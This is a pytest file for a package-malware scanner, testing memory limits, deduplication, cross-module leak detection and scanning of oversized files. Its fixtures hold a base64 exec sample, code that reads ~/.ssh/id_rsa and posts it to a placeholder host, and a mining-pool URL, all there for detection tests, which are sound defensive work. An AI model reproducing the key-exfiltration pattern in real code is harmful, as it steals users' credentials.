"""Large packages: bounded memory per module, each distinct file read once, files of any
size still scanned by the text rules, and the report naming what was only partly read."""

from __future__ import annotations

import ast
import hashlib
import random
import weakref
from collections.abc import Callable, Sequence
from pathlib import Path
from typing import Any

import pytest

from packguard.analyzer.analyze import AnalysisRequest, analyze
from packguard.analyzer.engines import python_ast
from packguard.analyzer.engines.base import ScanContext
from packguard.analyzer.engines.python_ast import MAX_SOURCE_BYTES, PythonAstEngine
from packguard.analyzer.engines.text_windows import WINDOW_CHARS
from packguard.analyzer.inventory import TreeFile
from packguard.analyzer.rulespec import RuleSpec

ArchiveFactory = Callable[[str, str, Sequence[dict[str, Any]]], Path]
PYPI = ScanContext("pypi")
LEAK = "exfiltration-python-secrets-sent"


def tree_file(tmp_path: Path, path: str, content: bytes) -> TreeFile:
    disk = tmp_path / path.replace("/", "_")
    disk.write_bytes(content)
    digest = hashlib.sha256(content).hexdigest()
    return TreeFile(path, path, disk, "python", len(content), digest)


def python_rules(rules: tuple[RuleSpec, ...]) -> list[RuleSpec]:
    return [spec for spec in rules if spec.engine == "python-ast" and "pypi" in spec.ecosystems]


def module_source(index: int) -> bytes:
    """Calls, assignments, a returning function and a sink: every kind of fact."""
    return (
        f"import os\nimport requests\nfrom . import m{index + 1}\n"
        f"VALUE_{index} = os.path.join('a', 'b{index}')\n"
        f"def get_{index}(x):\n    return dict(x) or m{index + 1}.get_{index + 1}(x)\n"
        f"requests.post('https://api.invalid/{index}', data=VALUE_{index})\n"
    ).encode()


def test_python_ast_keeps_no_tree_of_an_earlier_module_alive(
    rules: tuple[RuleSpec, ...], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # Memory must not grow with the package: numpy's ~1,300 modules used to keep their
    # trees (through their facts) until the last one was read.
    alive: list[weakref.ref[ast.AST]] = []
    alive_at_parse: list[int] = []
    parse = python_ast.parse_source

    def tracked(source: bytes) -> ast.Module | None:
        alive_at_parse.append(sum(ref() is not None for ref in alive))
        tree = parse(source)
        if tree is not None:
            # Statements and expressions: contexts and operators are shared singletons.
            nodes = [node for node in ast.walk(tree) if isinstance(node, ast.stmt | ast.expr)]
            alive.extend(weakref.ref(node) for node in nodes)
        return tree

    monkeypatch.setattr(python_ast, "parse_source", tracked)
    files = [tree_file(tmp_path, f"pkg/m{i}.py", module_source(i)) for i in range(20)]
    PythonAstEngine().scan(files, python_rules(rules), PYPI)
    assert len(alive_at_parse) == 20
    assert alive_at_parse == [0] * 20


def test_python_ast_reads_each_distinct_file_once(
    rules: tuple[RuleSpec, ...], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    parsed: list[bytes] = []
    parse = python_ast.parse_source

    def counted(source: bytes) -> ast.Module | None:
        parsed.append(source)
        return parse(source)

    monkeypatch.setattr(python_ast, "parse_source", counted)
    source = b"import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n"
    files = [
        tree_file(tmp_path, "pkg-1.0.tar.gz/pkg-1.0/pkg/run.py", source),
        tree_file(tmp_path, "pkg-1.0-py3-none-any.whl/pkg/run.py", source),
    ]
    result = PythonAstEngine().scan(files, python_rules(rules), PYPI)
    assert len(parsed) == 1
    hits = {(hit.rule_id, hit.file, hit.line) for hit in result.hits}
    assert hits == {("obfuscation-exec-decoded", file.path, 2) for file in files}
    assert result.notes[0] == "python files: 2 parsed, 0 unparsable, 0 too large"


@pytest.mark.parametrize("sink_first", [True, False])
def test_leak_across_modules_found_whatever_the_reading_order(
    rules: tuple[RuleSpec, ...], tmp_path: Path, sink_first: bool
) -> None:
    # The sink's module may be read (and its tree dropped) before the source's.
    sink = tree_file(
        tmp_path,
        "pkg/send.py",
        b"import requests\nfrom .collect import grab\n"
        b"requests.post('https://hooks.invalid/c', data=grab())\n",
    )
    source = tree_file(
        tmp_path,
        "pkg/collect.py",
        b"from pathlib import Path\ndef grab():\n"
        b"    return (Path.home() / '.ssh' / 'id_rsa').read_bytes()\n",
    )
    files = [sink, source] if sink_first else [source, sink]
    spec = next(spec for spec in rules if spec.id == LEAK)
    hits = PythonAstEngine().scan(files, [spec], PYPI).hits
    assert [(hit.rule_id, hit.file, hit.line) for hit in hits] == [(LEAK, "pkg/send.py", 3)]
    assert hits[0].snippet == "requests.post('https://hooks.invalid/c', data=grab())"


def oversized_module(lines_before: int, payload: str) -> str:
    """Python that no compressor squeezes 200-fold (the extraction's bomb check)."""
    noise = random.Random(5)
    body = [
        f"VALUE_{i} = {noise.getrandbits(60)}  # {noise.getrandbits(64):x}"
        for i in range(lines_before)
    ]
    return "\n".join([*body, payload, ""])


def test_oversized_python_file_is_text_scanned_and_named_in_the_report(
    make_archive: ArchiveFactory, rules: tuple[RuleSpec, ...], tmp_path: Path
) -> None:
    # A payload at the end of a file too large for a syntax tree (and, before, for the
    # text rules too) is still found, and the report says which file was read as text only.
    lines_before = 110_000
    content = oversized_module(lines_before, "POOL = 'stratum+tcp://pool.invalid:3333'")
    assert len(content) > max(MAX_SOURCE_BYTES, WINDOW_CHARS)
    artifact = make_archive(
        "bulky-1.0.tar.gz",
        "tar.gz",
        [
            {"name": "bulky-1.0/PKG-INFO", "data": "Metadata-Version: 2.1\nName: bulky\n"},
            {"name": "bulky-1.0/bulky/tables.py", "data": content},
        ],
    )
    scratch = tmp_path / "scratch"
    scratch.mkdir()
    request = AnalysisRequest("pypi", "bulky", "1.0", (artifact,), scratch, static_only=True)
    report = analyze(request, rules)
    evidence = {
        (finding.rule_id, item.file, item.line)
        for finding in report.findings
        for item in finding.evidence
    }
    assert ("miner-pool-indicator", "bulky-1.0/bulky/tables.py", lines_before + 1) in evidence
    (static,) = [phase for phase in report.phases if phase.name == "static"]
    assert static.detail is not None
    over_cap = f"python files over {MAX_SOURCE_BYTES >> 20} MiB, text rules only"
    assert f"{over_cap}: bulky-1.0/bulky/tables.py" in static.detail
    windowed = f"text files over {WINDOW_CHARS >> 20} MiB, read in windows"
    assert f"{windowed}: bulky-1.0/bulky/tables.py" in static.detail
